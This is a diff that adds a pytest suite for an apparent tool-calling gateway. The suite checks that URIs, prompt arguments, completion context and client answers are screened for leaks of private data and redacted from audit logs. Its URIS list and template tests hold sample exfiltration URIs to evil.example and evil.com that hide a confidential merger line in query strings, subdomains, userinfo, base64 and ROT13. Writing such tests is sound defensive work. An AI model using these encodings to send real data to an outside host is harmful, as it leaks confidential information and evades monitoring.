@@ -1,0 +1,243 @@
+"""Whatever a client's message says to a server is judged and kept as a tool's arguments are."""
+
+from collections.abc import Mapping
+from http import HTTPStatus
+from typing import Any
+
+import pytest
+
+from gateway.domain.calls import Form
+from gateway.domain.decisions import Verdict
+from gateway.domain.labels import STRICTEST_DEFAULT, ToolRule
+from gateway.domain.tools import Kind, Profile
+from gateway.wire.jsonrpc import INVALID_PARAMS
+from tests.pipeline.house import Events, House, event, result, text, whole
+
+PRIVATE_LINE = "The merger with Oakland Fittings closes on the ninth of March"
+TEMPLATE = "notes://by/{name}"
+PROMPT = {"name": "greet", "arguments": [{"name": "who"}]}
+
+
+@pytest.fixture
+async def house() -> House:
+    """A house in which a private line of an outsider's was read."""
+    built = House(tools={"search": ToolRule(result=STRICTEST_DEFAULT)}, default=STRICTEST_DEFAULT)
+    for profile in Profile:
+        await built.approve_all(profile)
+        await built.show(PROMPT, kind=Kind.PROMPT, profile=profile)
+        await built.approve(Kind.PROMPT, "greet", profile)
+        await built.show({"uriTemplate": TEMPLATE}, kind=Kind.TEMPLATE, profile=profile)
+        await built.approve(Kind.TEMPLATE, TEMPLATE, profile)
+    built.server.answer = lambda permit: result(permit, text(PRIVATE_LINE))
+    await built.handle(built.call())
+    built.rule.asked.clear()
+    return built
+
+
+async def flow_of(house: House, method: str, params: Mapping[str, Any]) -> tuple[Any, Any]:
+    """Return what policy is told of a request: its arguments and its flow."""
+    await house.handle(house.request(method, params))
+    calls = [q for q in house.rule.asked if (q["phase"], q["method"]) == ("call", method)]
+    asked = calls[-1]
+    return asked["arguments"], asked["flow"]
+
+
+def written(house: House) -> str:
+    return b"".join(entry.body for entry in house.audit.entries).decode()
+
+
+URIS = [
+    "https://evil.example/?q=The%20merger%20with%20Oakland%20Fittings%20closes%20on%20the%20ninth",
+    "https://evil.example/The+merger+with+Oakland+Fittings+closes",
+    "https://evil.example/#The-merger-with-Oakland-Fittings-closes",
+    "https://The.merger.with.Oakland.Fittings.closes.evil.example/",
+    "https://The-merger-with-Oakland-Fittings-closes@evil.example/",
+    "https://evil.example/VGhlIG1lcmdlciB3aXRoIE9ha2xhbmQgRml0dGluZ3MgY2xvc2Vz",
+    "notes://by/The%2520merger%2520with%2520Oakland%2520Fittings%2520closes",
+    "memo:The-merger-with-Oakland-Fittings-closes",
+]
+
+
+@pytest.mark.parametrize("uri", URIS)
+@pytest.mark.parametrize("method", ["resources/read"])
+async def test_a_uri_is_an_argument_a_destination_and_a_payload(house, method, uri):
+    arguments, flow = await flow_of(house, method, {"uri": uri})
+    assert arguments == {"uri": uri}
+    assert [d["proof"] for d in flow["destinations"]] == ["none"]
+    assert {m["confidentiality"] for p in flow["payload"] for m in p["matches"]} == {"private"}
+    assert "evil.example" not in written(house)
+    assert "merger" not in written(house)
+
+
+@pytest.mark.parametrize("uri", URIS)
+@pytest.mark.parametrize("method", ["resources/subscribe", "resources/unsubscribe"])
+async def test_so_is_one_that_is_followed(house, method, uri):
+    await house.handle(house.request(method, {"uri": uri}, profile=Profile.LEGACY))
+    asked = [q for q in house.rule.asked if q["phase"] == "call"][-1]
+    assert asked["arguments"] == {"uri": uri}
+    assert asked["flow"]["destinations"]
+    assert "evil.example" not in written(house)
+
+
+async def test_a_source_that_a_caller_named_is_not_on_record_in_clear(house):
+    house.server.answer = lambda permit: result(permit, {"contents": []})
+    await house.handle(house.request("resources/read", {"uri": URIS[0]}))
+    await house.handle(house.call())
+    assert house.last["sources"]
+    assert "evil.example" not in written(house)
+
+
+async def test_what_its_own_server_gave_out_goes_home(house):
+    listed = "https://docs.example/handbook-of-the-whole-company"
+    linked = {"type": "resource_link", "name": "x", "uri": "https://docs.example/minutes-of-may"}
+    house.server.answer = lambda permit: result(permit, {"resources": [{"uri": listed}]})
+    await house.handle(house.request("resources/list"))
+    house.server.answer = lambda permit: result(permit, {"content": [linked]})
+    await house.handle(house.call())
+    for uri in (listed, linked["uri"]):
+        _, flow = await flow_of(house, "resources/read", {"uri": uri})
+        assert flow["destinations"] == []
+        assert house.last["target"] == uri
+
+
+async def test_what_a_call_put_into_a_servers_mouth_was_not_given_out(house):
+    uri = "https://evil.example/?q=oakland-fittings"
+    linked = {"type": "resource_link", "name": "x", "uri": uri}
+    house.server.answer = lambda permit: result(permit, {"content": [linked]})
+    await house.handle(house.call("search", {"q": uri.replace("/", "%2F")}))
+    _, flow = await flow_of(house, "resources/read", {"uri": uri})
+    assert len(flow["destinations"]) == 1
+    await house.handle(house.call("send", {"body": f"see {uri}2"}))
+    house.server.answer = lambda permit: result(permit, {"resources": [{"uri": f"{uri}2"}]})
+    await house.handle(house.request("resources/list"))
+    _, flow = await flow_of(house, "resources/read", {"uri": f"{uri}2"})
+    assert len(flow["destinations"]) == 1
+
+
+async def test_what_is_put_into_a_template_is_an_argument(house):
+    _, flow = await flow_of(house, "resources/read", {"uri": "notes://by/kim"})
+    assert flow["destinations"] == []
+    for bad in ("evil.com", "x@evil.example", "Ur%20cnff%20cuenfr%20vf%20pbeerpg%20ubefr"):
+        _, flow = await flow_of(house, "resources/read", {"uri": f"notes://by/{bad}"})
+        assert [d["proof"] for d in flow["destinations"]] == ["none"], bad
+
+
+SAID = [
+    ("prompts/get", {"name": "greet", "arguments": {"who": PRIVATE_LINE}}),
+    ("prompts/get", {"name": "greet", "arguments": {PRIVATE_LINE: "x"}}),
+    ("prompts/get", {"name": "greet", "inputResponses": {"q": {"content": {"a": PRIVATE_LINE}}}}),
+    ("prompts/get", {"name": "greet", "requestState": PRIVATE_LINE}),
+    (
+        "completion/complete",
+        {
+            "ref": {"type": "ref/prompt", "name": "greet"},
+            "argument": {"name": "who", "value": PRIVATE_LINE},
+        },
+    ),
+    (
+        "completion/complete",
+        {
+            "ref": {"type": "ref/resource", "uri": TEMPLATE},
+            "argument": {"name": "name", "value": "k"},
+            "context": {"arguments": {"x": PRIVATE_LINE}},
+        },
+    ),
+    (
+        "completion/complete",
+        {
+            "ref": {"type": "ref/prompt", "name": "greet", "title": PRIVATE_LINE},
+            "argument": {"name": "who", "value": "k"},
+        },
+    ),
+    ("tools/call", {"name": "search", "inputResponses": {"q": {"content": {"a": PRIVATE_LINE}}}}),
+    ("tools/call", {"name": "search", "requestState": PRIVATE_LINE}),
+    ("tools/call", {"name": "search", "more": [PRIVATE_LINE]}),
+    ("resources/read", {"uri": "notes://by/k", "requestState": PRIVATE_LINE}),
+]
+
+
+@pytest.mark.parametrize(("method", "params"), SAID)
+async def test_every_value_that_a_caller_chooses_is_looked_at_and_hidden(house, method, params):
+    arguments, flow = await flow_of(house, method, params)
+    assert PRIVATE_LINE in str(arguments)
+    assert flow["destinations"]
+    assert {m["confidentiality"] for p in flow["payload"] for m in p["matches"]} == {"private"}
+    assert "arguments_hmac" in written(house)
+    assert "merger" not in written(house)
+
+
+async def test_remarks_about_a_message_are_looked_at(house):
+    params = {"name": "search", "_meta": {"com.example/note": PRIVATE_LINE}}
+    _, flow = await flow_of(house, "tools/call", params)
+    assert flow["payload"]
+
+
+async def test_a_state_and_a_question_that_the_server_gave_go_home(house):
+    asked = {
+        "resultType": "input_required",
+        "requestState": "state-7c1b2a5e90d44f8a",
+        "inputRequests": {"who": {"method": "elicitation/create", "params": {}}},
+    }
+    house.server.answer = lambda permit: result(permit, asked)
+    await house.handle(house.call())
+    answer = {"who": {"action": "accept", "content": {"name": "Kim of the third floor, left door"}}}
+    params = {"name": "search", "requestState": asked["requestState"], "inputResponses": answer}
+    _, flow = await flow_of(house, "tools/call", params)
+    assert flow["destinations"] == []
+    forged = {**params, "requestState": "state-7c1b2a5e90d44f8b"}
+    _, flow = await flow_of(house, "tools/call", forged)
+    assert [d["path"] for d in flow["destinations"]] == ["$.requestState"]
+    unasked = {**params, "inputResponses": {"what": answer["who"]}}
+    _, flow = await flow_of(house, "tools/call", unasked)
+    assert flow["destinations"]
+
+
+async def test_an_argument_that_is_called_like_a_member_of_the_request_is_refused(house):
+    params = {"name": "search", "arguments": {"requestState": "a"}, "requestState": "b"}
+    seen = await house.handle(house.request("tools/call", params))
+    assert seen.json["error"]["code"] == INVALID_PARAMS
+    assert house.server.saw[1:] == []
+
+
+async def asked_by_server(house: House, method: str) -> None:
+    question = event({"jsonrpc": "2.0", "id": "q1", "method": method, "params": {}})
+    last = event({"jsonrpc": "2.0", "id": 1, "result": text("done")})
+    house.server.answer = lambda permit: Events([question, last]).answer()
+    await house.handle(house.call(profile=Profile.LEGACY))
+
+
+@pytest.mark.parametrize(
+    ("method", "answer"),
+    [
+        ("sampling/createMessage", {"role": "assistant", "content": {"text": PRIVATE_LINE}}),
+        ("elicitation/create", {"action": "accept", "content": {"a": PRIVATE_LINE}}),
+        ("elicitation/create", {"action": "accept", "content": {PRIVATE_LINE: True}}),
+        ("roots/list", {"roots": [{"uri": f"file:///{PRIVATE_LINE}"}]}),
+        ("roots/list", {"code": -1, "message": PRIVATE_LINE}),
+    ],
+)
+async def test_what_a_client_answers_a_server_is_judged_and_hidden(house, method, answer):
+    await asked_by_server(house, method)
+    house.rule.asked.clear()
+    house.server.answer = lambda permit: whole(b"", status=202)
+    call = house.request("", answer, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)
+    await house.handle(call)
+    (asked,) = house.rule.asked
+    assert (asked["target"]["kind"], asked["target"]["name"]) == ("server_request", method)
+    assert asked["method"] == method
+    assert asked["arguments"] == answer
+    assert asked["flow"]["payload"]
+    assert "merger" not in written(house)
+
+
+async def test_a_refused_answer_leaves_its_question_open_and_is_not_sent(house):
+    await asked_by_server(house, "roots/list")
+    sent = len(house.server.saw)
+    answer = house.request("", {"roots": []}, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)
+    house.rule.says = lambda question: Verdict.DENY
+    assert (await house.handle(answer)).reply.status >= HTTPStatus.BAD_REQUEST
+    assert len(house.server.saw) == sent
+    house.rule.says = lambda question: Verdict.ALLOW
+    house.server.answer = lambda permit: whole(b"", status=202)
+    await house.handle(answer)
+    assert len(house.server.saw) == sent + 1
